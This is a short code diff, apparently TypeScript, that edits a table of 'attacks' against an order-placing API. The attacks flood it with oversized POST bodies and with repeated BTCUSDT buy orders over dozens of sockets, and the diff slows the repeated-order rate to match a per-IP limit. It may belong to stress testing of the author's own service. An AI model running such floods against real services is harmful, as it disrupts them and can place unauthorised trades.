@@ -39,14 +39,14 @@ const ATTACKS: Readonly<Record<string, () => void>> = {
     for (let number = 0; number < CONNECTIONS; number++)
       connect(head('POST', '/api/v3/order', further) + 'x'.repeat(250_000)).pause();
   },
-  /** About a thousand times a second the same order, which waits for a person. */
+  /** A hundred times a second, as often as one IP may call, the same order, which waits for a person. */
   joining() {
     const order = '/api/v3/order?symbol=BTCUSDT&side=BUY&type=LIMIT&timeInForce=GTC&quantity=1&price=1';
     for (let number = 0; number < 50; number++) {
       const socket = connect('');
       const timer = setInterval(
         () => socket.write(head('POST', order, `${withKey}Content-Length: 0\r\n`)),
-        50,
+        500,
       );
       socket.on('close', () => clearInterval(timer)).resume();
     }
